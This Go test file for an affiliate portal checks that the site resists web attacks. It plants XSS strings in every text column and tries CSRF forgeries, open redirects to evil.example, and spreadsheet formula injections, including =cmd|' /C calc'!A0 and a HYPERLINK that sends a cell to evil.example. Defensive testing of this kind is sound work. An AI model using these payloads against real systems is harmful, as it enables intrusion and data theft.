package server

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/waypost/waypost/store/storetest"
	"github.com/waypost/waypost/web"
)

var manyBlanks = regexp.MustCompile(`\s+`)

// textOf is what a page says, without markup.
func textOf(page string) string {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return page
	}
	var said strings.Builder
	for node := range root.Descendants() {
		if node.Type == html.TextNode && node.Parent.Data != "style" && node.Parent.Data != "script" {
			if node.PrevSibling == nil || node.PrevSibling.Data != "wbr" { // which is within a word
				said.WriteByte(' ')
			}
			said.WriteString(node.Data)
		}
	}
	return strings.TrimSpace(manyBlanks.ReplaceAllString(said.String(), " "))
}

// freeText are the columns that somebody else's text can get into, by table; those of jsonb hold it as one of their values.
var freeText = map[string][]string{
	"advertisers":       {"name", "email", "status_map"},
	"affiliates":        {"name", "email"},
	"offers":            {"name", "destination_url", "preview_url", "fallback_url"},
	"goals":             {"name", "alias"},
	"coupons":           {"code"},
	"users":             {"name", "email"},
	"clicks":            {"aff_click_id", "subs", "source", "landing_page_id", "creative_id", "deep_link", "coupon", "ip", "user_agent", "referrer", "language", "country", "device", "os", "browser"},
	"conversions":       {"txid", "params"},
	"conversion_events": {"reason", "actor"},
	"postback_log":      {"query", "ip", "message", "warnings", "ignored", "unknown", "read_as", "preset", "body_start"},
	"postbacks":         {"url"},
	"deliveries":        {"url", "body", "host", "reason"},
	"delivery_attempts": {"url", "error", "response_body"},
	"api_keys":          {"name", "prefix"},
	"notices":           {"text", "kind", "object_type", "object_id"},
	"notes":             {"text"},
	"views":             {"name"},
	"exports":           {"title", "reason"},
	"trace_links":       {"note"},
	"applications":      {"company", "contact", "email", "country", "website", "answers", "terms_url", "ip", "reason"},
	"network_settings":  {"name", "support_email", "terms_url", "affiliate_questions", "advertiser_questions"},
	"browser_sessions":  {"ip", "user_agent"},
}

// infest puts texts into every such column, another one into each; with n texts, n rounds put each into each.
func (w *portalWorld) infest(texts []string, round int) {
	w.Helper()
	types := map[string]string{}
	for _, line := range queryColumn(w.TB.(*testing.T), w.db, `SELECT table_name || '.' || column_name || ' ' || data_type FROM information_schema.columns WHERE table_schema = current_schema()`) {
		name, kind, _ := strings.Cut(line, " ")
		types[name] = kind
	}
	at := round
	for table, columns := range freeText {
		var sets []string
		var args []any
		for _, column := range columns {
			text := texts[at%len(texts)]
			at++
			n := len(args) + 1
			switch types[table+"."+column] {
			case "text":
				sets = append(sets, fmt.Sprintf("%s = $%d", column, n))
			case "ARRAY":
				sets = append(sets, fmt.Sprintf("%s = ARRAY[$%d::text, $%d::text || '=x']", column, n, n))
			case "jsonb":
				sets = append(sets, fmt.Sprintf("%s = %s", column, map[string]string{
					"status_map": fmt.Sprintf("jsonb_build_object($%d::text, 'approved')", n),
					"params":     fmt.Sprintf("jsonb_build_object('param', jsonb_build_array($%d::text), 'Param', jsonb_build_array($%d::text), 'coupon', $%d::text)", n, n, n),
					"answers":    fmt.Sprintf("jsonb_build_array(jsonb_build_object('id', 'how', 'label', $%d::text, 'kind', 'text', 'value', $%d::text, 'answer', $%d::text))", n, n, n),
				}[column]))
				if strings.HasSuffix(column, "_questions") {
					sets[len(sets)-1] = fmt.Sprintf("%s = jsonb_build_array(jsonb_build_object('id', 'how', 'label', $%d::text, 'kind', 'select', 'options', jsonb_build_array($%d::text)))", column, n, n)
				}
			default:
				w.Fatalf("there is no column %s.%s", table, column)
			}
			if table == "coupons" || table == "goals" && column == "alias" || table == "users" && column == "email" || table == "views" { // unique
				sets[len(sets)-1] += " || id"
			}
			args = append(args, text)
		}
		if _, err := w.db.Pool().Exec(context.Background(), "UPDATE "+table+" SET "+strings.Join(sets, ", "), args...); err != nil {
			w.Fatalf("%s: %v", table, err)
		}
	}
	for thing, id := range map[string]string{"offer": "offers", "affiliate": "affiliates", "advertiser": "advertisers", "postback": "postbacks", "network": ""} { // its rows are never changed
		text := texts[(at+round)%len(texts)]
		at++
		_, err := w.db.Pool().Exec(context.Background(), `INSERT INTO audit_log (id, at, user_id, actor, ip, action, object_type, object_id, before, after) VALUES (gen_random_uuid(), now(), $1, $2, $2, $3, $4, $5,
			jsonb_build_object('name', $2::text, 'url', 'https://x.example/' || $2, $2::text, 'x'), jsonb_build_object('name', $2::text || 'y', 'url', $2::text, 'text', $2::text))`,
			w.who('A', 0).user.ID, text, thing+".update", thing, w.ids[0][id])
		w.must(err)
	}
}

// pages are what a visitor of each kind sees: every GET route that it may use, with its own things.
func (w *portalWorld) pages(visit func(v visitor, target string)) {
	w.Helper()
	rights := allPortalRights()
	for _, route := range w.routes() {
		method, pattern, _ := strings.Cut(route, " ")
		r, known := rights[route]
		if method != http.MethodGet || strings.HasSuffix(pattern, "/stream") || !known {
			continue
		}
		for _, v := range []visitor{w.who('A', 0), w.who('a', 0), w.who('d', 0), {name: "nobody"}} {
			if r.may == "*" && v.role == 0 || v.role != 0 && strings.ContainsRune(r.may, rune(v.role)) {
				visit(v, w.target(pattern, 0))
			}
		}
	}
}

// scripts are texts that become markup or code where a page does not escape them for the place that they stand in.
var scripts = []string{
	`<script>xss(1)</script>`, `</script><script>xss(2)</script>`, `"><xss-element>`, `'><xss-element>`, `<img src=x onerror=xss(3)>`, `"><img src="x" onerror="xss(4)">`,
	`<svg onload=xss(5)>`, `<svg><script>xss(6)</script></svg>`, `" onmouseover="xss(7)" x="`, `' onmouseover='xss(8)' x='`, "` onmouseover=`xss(9)`", `" autofocus onfocus=xss(10) x="`,
	`javascript:xss(11)`, `JaVaScRiPt:xss(12)`, "java\tscript:xss(13)", "\x01javascript:xss(14)", ` javascript:xss(15)`, `javascript://xss.example/%0axss(16)`, `data:text/html,<script>xss(17)</script>`,
	`data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==xss`, `vbscript:xss(18)`, `</title><xss-element>`, `</textarea><xss-element>`, `</style><xss-element>`, `<!--xss`, `--><xss-element>`,
	`<iframe src="javascript:xss(19)">`, `<iframe srcdoc="<script>xss(20)</script>">`, `<object data="data:text/html,xss">`, `<embed src="//xss.example/x">`, `<base href="//xss.example/">`,
	`<meta http-equiv="refresh" content="0;url=//xss.example">`, `<link rel="stylesheet" href="//xss.example/x.css">`, `<style>xss{color:red}</style>`, `" style="background:url(//xss.example)`,
	`red;background:url(//xss.example)`, `<a href="javascript:xss(21)">x</a>`, `<form action="//xss.example"><button>x</button></form>`, `&lt;script&gt;xss(22)&lt;/script&gt;`, `&#60;xss-element&#62;`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=xss(23)>`, `<noscript><p title="</noscript><img src=x onerror=xss(24)>">`, `{{constructor.constructor('xss')()}}`,
	`" hx-get="/xss" hx-trigger="load`, `js:xss(25)`, `<div hx-on:load="xss(26)">`, `<x-chart data-xss="1">`, `＜xss-element＞`, "<xss\x0belement>", `%3Cxss-element%3E`, `\u003cxss-element\u003e`,
}

// addresses are attributes that a browser goes to, or htmx.
var addresses = []string{"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset", "hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch", "hx-push-url", "hx-replace-url", "hx-sse:connect"}

// scheme is that of an address as browsers find it: they drop blanks before it and tabs and line ends in it.
func scheme(address string) string {
	clean := strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, strings.TrimLeftFunc(address, func(r rune) bool { return r <= ' ' }))
	before, _, ok := strings.Cut(clean, ":")
	if !ok || strings.ContainsAny(before, "/?#") {
		return ""
	}
	return strings.ToLower(before)
}

// injected is what became of the planted texts that should have stayed text.
func injected(page string) (found []string) {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	for node := range root.Descendants() {
		switch node.Type {
		case html.CommentNode:
			if strings.Contains(node.Data, "xss") {
				found = append(found, "comment "+node.Data)
			}
		case html.TextNode:
			if (node.Parent.Data == "style" || node.Parent.Data == "script") && strings.Contains(node.Data, "xss") {
				found = append(found, "in "+node.Parent.Data+": "+node.Data)
			}
		case html.ElementNode:
			found = append(found, suspect(node)...)
		}
	}
	return found
}

func suspect(node *html.Node) (found []string) {
	say := func(why string) { found = append(found, fmt.Sprintf("<%s> %v: %s", node.Data, node.Attr, why)) }
	if strings.Contains(node.Data, "xss") || slices.Contains([]string{"iframe", "object", "embed", "base", "frame", "math", "noscript"}, node.Data) {
		say("no element of ours")
	}
	src := ""
	for _, a := range node.Attr {
		key := a.Key
		if a.Namespace != "" {
			key = a.Namespace + ":" + a.Key
		}
		switch {
		case strings.HasPrefix(key, "on") || strings.HasPrefix(key, "hx-on") || key == "srcdoc" || strings.Contains(key, "xss"):
			say("attribute " + key)
		case key == "style" && strings.Contains(a.Val, "xss"), key == "http-equiv" && strings.EqualFold(a.Val, "refresh"), strings.HasPrefix(key, "hx-") && strings.HasPrefix(strings.TrimSpace(a.Val), "js:"):
			say("value of " + key)
		case key == "href" && node.Data == "link" && a.Val == "data:,": // no icon
		case slices.Contains(addresses, key):
			if key == "src" {
				src = a.Val
			}
			s := scheme(a.Val)
			if s != "" && s != "http" && s != "https" && s != "mailto" && s != "about" && !(node.Data == "img" && strings.HasPrefix(a.Val, "data:image/png;base64,")) {
				say("scheme of " + key)
			}
			if node.Data != "a" && strings.Contains(strings.ReplaceAll(a.Val, `\`, "/"), "//xss") && !strings.HasPrefix(a.Val, "/") {
				say("foreign address")
			}
		}
	}
	if node.Data == "script" && !strings.HasPrefix(src, "/static/") || node.Data == "link" && strings.Contains(fmt.Sprint(node.Attr), "xss") && !strings.Contains(fmt.Sprint(node.Attr), "/static/") {
		say("a script or sheet that is not ours")
	}
	return found
}

// TestNoTextBecomesMarkup: whatever others wrote stays text on every page of every role.
func TestNoTextBecomesMarkup(t *testing.T) {
	t.Parallel()
	w := newPortalWorld(t)
	w.marks, w.hidden = [2][]string{}, nil
	const perText = 4
	var texts []string
	for i := 0; i < len(scripts); i += perText {
		texts = append(texts, strings.Join(scripts[i:min(i+perText, len(scripts))], " "))
	}
	texts = append(texts, scripts[10:22]...) // addresses, which count from their first character on
	shown, said := 0, map[string]bool{}
	for round := range texts {
		w.infest(texts, round)
		w.pages(func(v visitor, target string) {
			for _, query := range []string{"", "?" + url.Values{"q": {scripts[round%len(scripts)]}, "search": {scripts[5]}, "txid": {scripts[2]}, "cursor": {scripts[3]}, "token": {scripts[4]}, "next": {scripts[12]}, "click": {scripts[8]}, "from": {scripts[9]}}.Encode()} {
				rec := w.send(v, "GET", target+query, nil)
				if !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/html") {
					continue
				}
				page := rec.Body.String()
				if strings.Contains(page, "xss") {
					shown++
				}
				for _, what := range injected(page) {
					if key := fmt.Sprintf("%.120s", what); !said[key] {
						said[key] = true
						t.Errorf("%s: %s%s: %.400s", v.name, target, query, what)
					}
				}
				if query == "" && round > 2 {
					break // addresses are the same each time
				}
			}
		})
	}
	if shown < 50*len(texts) {
		t.Errorf("only %d pages showed a planted text", shown)
	}
	t.Logf("%d texts, %d answers that showed one", len(scripts), shown)
}

// boundText are the other columns of text: the program's own words, codes, numbers and hashes, and what no page shows.
var boundText = strings.Fields(`
	advertisers.currency advertisers.ip_allowlist advertisers.postback_auth advertisers.status affiliates.currency affiliates.fire affiliates.status
	api_keys.role applications.kind applications.status balances.account_id balances.currency browser_sessions.network clicks.reason
	conversion_events.data conversion_events.from_status conversion_events.kind conversion_events.to_status conversion_keys.dedupe_key
	conversions.awaiting_rate conversions.currency conversions.dedupe_key conversions.original_currency conversions.status deliveries.event_status
	deliveries.method deliveries.status exchange_rates.base exchange_rates.quote exchange_rates.source goals.dedupe goals.initial_status
	goals.payout_model goals.revenue_model idempotency_keys.content_type idempotency_keys.key ledger_entries.account_id ledger_entries.currency
	ledger_entries.from_account ledger_entries.kind ledger_entries.note ledger_entries.to_account mails.error mails.recipient mails.subject
	network_logo.content_type network_settings.brand_colour network_settings.currency network_settings.logo_version network_settings.time_zone
	offer_access.status offers.currency offers.status offers.visibility periodic_runs.job postback_log.code postback_log.method postback_log.rehearsed_role postback_log.status stats_daily_country.country
	postbacks.goal_ids postbacks.method postbacks.paused_reason postbacks.statuses refresh_tokens.ip refresh_tokens.network trace_links.role
	exports.file_name exports.format exports.path exports.role exports.state mails.attachment_name mails.attachment_type
	view_defaults.page views.format views.page views.query views.schedule views.span
	user_tokens.kind users.password_hash users.role users.status users.theme users.time_zone`)

// TestEveryTextIsPlanted: a column of text that is new is one that a stranger fills, or one that nobody can.
func TestEveryTextIsPlanted(t *testing.T) {
	t.Parallel()
	for _, column := range queryColumn(t, storetest.New(t), `SELECT c.table_name || '.' || c.column_name FROM information_schema.columns c JOIN pg_class k ON k.relname = c.table_name
		WHERE c.table_schema = current_schema() AND c.data_type IN ('text', 'ARRAY', 'jsonb') AND NOT k.relispartition AND k.relkind IN ('r', 'p') AND k.relname NOT LIKE 'goose%' AND k.relname <> 'audit_log' ORDER BY 1`) {
		table, name, _ := strings.Cut(column, ".")
		if slices.Contains(freeText[table], name) == slices.Contains(boundText, column) {
			t.Errorf("%s stands in freeText or in boundText: in one of them", column)
		}
	}
}

// TestJudgeFindsMarkup: what TestNoTextBecomesMarkup looks with is not blind.
func TestJudgeFindsMarkup(t *testing.T) {
	t.Parallel()
	for _, page := range []string{`<p><script>xss(1)</script>`, `<p><xss-element>`, `<img src=x onerror=1>`, `<a href="java&#9;script:x">`, `<a href=" JavaScript:x">`, `<p style="background:url(//xss.example)">`,
		`<!--xss-->`, `<iframe>`, `<form action="data:text/html,x">`, `<div hx-get="js:x">`, `<div hx-vals="js:x">`, `<meta http-equiv=Refresh content=0>`, `<style>xss{}</style>`, `<object data=x>`, `<form action="//xss.example">`} {
		if page != `<form action="//xss.example">` && len(injected(page)) == 0 {
			t.Errorf("%s passes", page)
		}
	}
	if found := injected(`<p title="&lt;script&gt;xss">&lt;script&gt;xss(1)<a href="/x?javascript:xss">x</a><script src="/static/x.js"></script>`); len(found) > 0 {
		t.Errorf("text is taken for markup: %v", found)
	}
}

// TestHeadersOfEveryPage: frames, foreign scripts, sniffing and caches are refused on every page of every role, errors included.
func TestHeadersOfEveryPage(t *testing.T) {
	t.Parallel()
	w := newPortalWorld(t)
	check := func(v visitor, target string) {
		rec := w.send(v, "GET", target, nil)
		h := rec.Header()
		if !strings.HasPrefix(h.Get("Content-Type"), "text/html") && rec.Code != http.StatusSeeOther {
			return
		}
		policy := h.Get("Content-Security-Policy")
		for _, want := range []string{"default-src 'none'", "script-src 'self';", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'"} {
			if !strings.Contains(policy, want) {
				t.Errorf("%s: %s: policy %q lacks %s", v.name, target, policy, want)
			}
		}
		if strings.Contains(policy, "unsafe-eval") || strings.Contains(strings.ReplaceAll(policy, "style-src-attr 'unsafe-inline'", ""), "unsafe-inline") {
			t.Errorf("%s: %s: policy %q", v.name, target, policy)
		}
		if h.Get("X-Frame-Options") != "DENY" || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" || h.Get("Referrer-Policy") == "" {
			t.Errorf("%s: %s: headers %v", v.name, target, h)
		}
	}
	w.pages(check)
	for _, v := range w.whos {
		for _, target := range []string{"/admin/nothing", "/affiliate/nothing", "/advertiser/nothing", "/admin/offers/1", "/affiliate/offers/999", "/t/nothing", "/nothing"} {
			check(v, target)
		}
	}
}

// TestForgedFormsDoNothing: every route that changes something, of the router, by who may use it: without a token, with
// that of another session, from another site, and with a token where none belongs.
func TestForgedFormsDoNothing(t *testing.T) {
	t.Parallel()
	w := newPortalWorld(t)
	rights := allPortalRights()
	w.still = true
	before, tried := w.rows(), 0
	for _, route := range w.routes() {
		method, pattern, _ := strings.Cut(route, " ")
		if method == http.MethodGet || method == http.MethodHead {
			continue
		}
		r := rights[route]
		for _, v := range []visitor{w.who('A', 0), w.who('a', 0), w.who('d', 0), {name: "nobody"}} {
			public := r.may == "*"
			if public != (v.role == 0) || !public && !strings.ContainsRune(r.may, rune(v.role)) {
				continue
			}
			target, token, other := w.target(pattern, 0)+r.query, web.CSRFToken(v.token), web.CSRFToken(w.who('a', 1).token)
			if public {
				token = web.CSRFToken(formSecret)
			}
			for what, forged := range map[string]struct {
				token  string
				target string
				header []string
			}{
				"no token":                     {"", target, nil},
				"another session's token":      {other, target, nil},
				"a token of nothing":           {web.CSRFToken(""), target, nil},
				"half a token":                 {token[:len(token)/2], target, nil},
				"a token in the address":       {"", target + "?" + url.Values{web.CSRFField: {token}}.Encode(), nil},
				"another site":                 {token, target, []string{"Sec-Fetch-Site", "cross-site", "Origin", "https://evil.example"}},
				"another site of ours":         {token, target, []string{"Sec-Fetch-Site", "same-site"}},
				"another origin, old browser":  {token, target, []string{"Sec-Fetch-Site", "", "Origin", "https://evil.example"}},
				"no origin at all":             {token, target, []string{"Sec-Fetch-Site", "", "Origin", "null"}},
				"a body that is no form":       {"", target, []string{"Content-Type", "text/plain"}},
				"a header of another session":  {"", target, []string{web.CSRFHeader, other}},
				"another site, asked by htmx":  {token, target, []string{"Sec-Fetch-Site", "cross-site", "HX-Request", "true"}},
				"a method in the form's field": {"", target + "?_method=GET", []string{"X-HTTP-Method-Override", "GET"}},
			} {
				form := r.filled(w, v, 0)
				form.Set(web.CSRFField, forged.token)
				tried++
				if rec := w.send(v, method, forged.target, form, forged.header...); rec.Code != http.StatusForbidden {
					t.Errorf("%s: %s with %s: %d, want 403", v.name, route, what, rec.Code)
				}
			}
		}
	}
	w.unchanged(before, w.rows(), "forged forms")
	if tried < 1000 {
		t.Errorf("only %d forged forms", tried)
	}
}

// elsewhere are addresses that a browser takes for another host.
var elsewhere = []string{"https://evil.example", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/\n/evil.example", "https:evil.example", "https:/evil.example",
	"http://evil.example/admin/", "//evil.example/admin/x", "/admin//evil.example\\@", "/%09/evil.example", "/%5cevil.example", "/%2f/evil.example", "javascript:alert(1)", "data:text/html,x", " //evil.example", "\x00//evil.example",
	"/admin/../..//evil.example", "/.//evil.example", "/admin/..\\..\\/evil.example", "//evil.example@portal.example", "http://portal.example@evil.example/", "http://portal.example.evil.example/", "//portal.example:80@evil.example",
	"https://portal.example:443@evil.example", "/login/..//evil.example", "?next=//evil.example", "//[::1]/", "//evil。example", "http:///evil.example", "/\r\nLocation: https://evil.example", "/x\r\n\r\n<script>"}

// leads is where a browser would go from a page of ours; empty for a path of ours.
func leads(address string) string {
	clean := strings.NewReplacer("\t", "", "\n", "", "\r", "", `\`, "/").Replace(strings.TrimLeftFunc(address, func(r rune) bool { return r <= ' ' }))
	if strings.HasPrefix(clean, "//") {
		return clean
	}
	u, err := url.Parse(clean)
	if err != nil {
		return clean
	}
	if u.Host != "" && u.Host != "portal.example" || u.Scheme != "" && u.Host == "" {
		return clean
	}
	return ""
}

// TestNothingLeadsElsewhere: no parameter and no header makes a page redirect or link to another host.
func TestNothingLeadsElsewhere(t *testing.T) {
	t.Parallel()
	w := newPortalWorld(t)
	params := []string{"next", "back", "return", "return_to", "returnTo", "continue", "redirect", "redirect_uri", "url", "to", "goto", "dest", "of", "href"}
	check := func(v visitor, what string, rec *httptest.ResponseRecorder) {
		t.Helper()
		for _, header := range []string{"Location", "HX-Redirect", "HX-Location", "HX-Push-Url", "Refresh"} {
			if to := rec.Header().Get(header); leads(to) != "" {
				t.Errorf("%s: %s: %s %q", v.name, what, header, to)
			}
		}
		if !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/html") {
			return
		}
		root, err := html.Parse(strings.NewReader(rec.Body.String()))
		if err != nil {
			t.Error(err)
			return
		}
		for node := range root.Descendants() {
			for _, a := range node.Attr {
				if slices.Contains(addresses, a.Key) && strings.Contains(leads(a.Val), "evil") {
					t.Errorf("%s: %s: <%s %s=%q>", v.name, what, node.Data, a.Key, a.Val)
				}
			}
		}
	}
	query := func(address string) string {
		q := url.Values{}
		for _, name := range params {
			q.Set(name, address)
		}
		return q.Encode()
	}
	for i, address := range elsewhere {
		w.pages(func(v visitor, target string) {
			if i%4 == 0 || isPublic(target) { // all of the corpus where it matters most
				check(v, target+" to "+address, w.send(v, "GET", target+"?"+query(address), nil, "HX-Current-URL", address, "Referer", address))
			}
		})
		for _, v := range []visitor{w.who('A', 0), w.who('a', 0), w.who('d', 0)} { // who is logged in already
			check(v, "/login to "+address, w.send(v, "GET", "/login?"+query(address), nil))
			forms := map[string]url.Values{v.base() + "/account/theme": {"theme": {"dark"}}, v.base() + "/notifications/read-all": {}}
			if v.role != 'd' {
				forms[v.base()+"/deliveries/"+w.ids[0]["deliveries"]+"/resend"] = url.Values{}
			}
			for target, form := range forms {
				for _, name := range params {
					form.Set(name, address)
				}
				check(v, "POST "+target+" to "+address, w.send(v, "POST", target, form, "Referer", strings.Map(printable, address), "HX-Current-URL", strings.Map(printable, address)))
			}
		}
		nobody := visitor{name: "nobody"}
		check(nobody, "POST /login to "+address, w.send(nobody, "POST", "/login", url.Values{"email": {"x@x.example"}, "password": {"wrong"}, "next": {address}}))
		for _, target := range []string{"/affiliate/..//evil.example", "/admin//evil.example", "//evil.example/admin", "/admin/%5cevil.example", "/affiliate/?next=" + url.QueryEscape(address)} {
			check(nobody, target, w.send(nobody, "GET", strings.ReplaceAll(target, "//evil", "/%2fevil"), nil))
		}
	}
}

func printable(r rune) rune {
	if r < ' ' {
		return -1
	}
	return r
}

// formulas are what spreadsheets compute.
var formulas = []string{`=cmd|' /C calc'!A0`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1", `=HYPERLINK("https://evil.example?x="&A1,"x")`, `＝1+1`, `＋1`, `－1+1`, `＠SUM(1)`, `","=1+1`, "x\r\n=1+1", `-1;=1+1`}

var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// TestNoCellIsAFormula: every file of every portal.
func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	w := newPortalWorld(t)
	w.marks, w.hidden = [2][]string{}, nil
	files, cells := map[string]bool{}, 0
	for round := range formulas {
		w.infest(formulas, round)
		w.pages(func(v visitor, target string) {
			if round > 0 && !files[v.name+target] {
				return
			}
			group := url.Values{"format": {"csv"}, "group": {"offer", "affiliate", "sub1", "source"}, "group_by": {"offer,affiliate,sub1,source"}, "from": {now().AddDate(0, 0, -3).Format(time.DateOnly)}}
			for _, query := range []string{"format=csv", group.Encode()} {
				rec := w.send(v, "GET", target+"?"+query, nil)
				if !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") {
					continue
				}
				files[v.name+target] = true
				if d := rec.Header().Get("Content-Disposition"); !strings.HasPrefix(d, "attachment") {
					t.Errorf("%s: %s is shown, not saved: %q", v.name, target, d)
				}
				lines := csv.NewReader(strings.NewReader(rec.Body.String()))
				for {
					record, err := lines.Read()
					if err == io.EOF {
						break
					}
					if err != nil {
						t.Errorf("%s: %s: %v", v.name, target, err)
						break
					}
					for _, cell := range record {
						cells++
						if first := []rune(cell + " ")[0]; strings.ContainsRune("=+-@\t\r\n＝＋－＠", first) && !plainNumber.MatchString(cell) {
							t.Errorf("%s: %s?%s has the cell %q", v.name, target, query, cell)
						}
					}
				}
			}
			if strings.HasSuffix(target, "/reports/file") {
				w.noFormula(v, target+"?format=xlsx&group=offer&group=sub1")
			} else if files[v.name+target] && !strings.HasSuffix(target, ".csv") {
				w.noFormula(v, target+"?format=xlsx")
			}
		})
	}
	t.Logf("%d files, %d cells: %v", len(files), cells, files)
	if len(files) < 8 {
		t.Errorf("only %d files were found: %v", len(files), files)
	}
}

// noFormula looks into a workbook.
func (w *portalWorld) noFormula(v visitor, target string) {
	w.Helper()
	rec := w.send(v, "GET", target, nil)
	if !strings.Contains(rec.Header().Get("Content-Type"), "spreadsheetml") {
		return
	}
	book, err := zip.NewReader(bytes.NewReader(rec.Body.Bytes()), int64(rec.Body.Len()))
	w.must(err)
	for _, file := range book.File {
		if !strings.HasPrefix(file.Name, "xl/worksheets/") {
			continue
		}
		r, err := file.Open()
		w.must(err)
		sheet, err := io.ReadAll(r)
		w.must(err)
		if bytes.Contains(sheet, []byte("<f>")) || bytes.Contains(sheet, []byte("<f ")) {
			w.Errorf("%s: %s has a formula", v.name, target)
		}
	}
}

// TestStreamsEndWithTheSession, and what they tell is the viewer's own.
func TestStreamsEndWithTheSession(t *testing.T) {
	t.Parallel()
	w := newPortalWorld(t)
	server := httptest.NewServer(w.e)
	t.Cleanup(server.Close)
	streams := 0
	for _, route := range w.routes() {
		method, pattern, _ := strings.Cut(route, " ")
		if method != http.MethodGet || !strings.HasSuffix(pattern, "/stream") {
			continue
		}
		for _, v := range []visitor{w.who('A', 0), w.who('a', 0), w.who('d', 0)} {
			if !strings.HasPrefix(pattern, v.base()+"/") {
				continue
			}
			streams++
			t.Run(v.name+pattern, func(t *testing.T) {
				t.Parallel()
				w.streamEnds(t, v, server.URL+w.target(pattern, 0))
			})
		}
	}
	if streams < 2 {
		t.Errorf("only %d streams", streams)
	}
}

// streamEnds opens a stream, ends its session and waits for its end, which comes with the next beat.
func (w *portalWorld) streamEnds(t *testing.T, v visitor, target string) {
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	fresh := w.again(v)
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
	if err != nil {
		t.Fatal(err)
	}
	r.AddCookie(&http.Cookie{Name: "waypost_session", Value: fresh.token})
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	if answer.StatusCode != http.StatusOK || !strings.HasPrefix(answer.Header.Get("Content-Type"), "text/event-stream") {
		t.Fatalf("status %d, %v", answer.StatusCode, answer.Header)
	}
	b, err := w.accounts.PeekBrowser(ctx, fresh.token)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.accounts.EndSession(ctx, v.user.Actor("192.0.2.1"), b.Session.ID); err != nil {
		t.Fatal(err)
	}
	told, err := io.ReadAll(answer.Body)
	if err != nil {
		t.Fatalf("the stream did not end: %v", err)
	}
	if v.party() {
		for _, mark := range append(slices.Clone(w.marks[1-v.pair]), w.hidden[v.role]...) {
			if strings.Contains(string(told), mark) {
				t.Errorf("the stream shows %q", mark)
			}
		}
	}
}
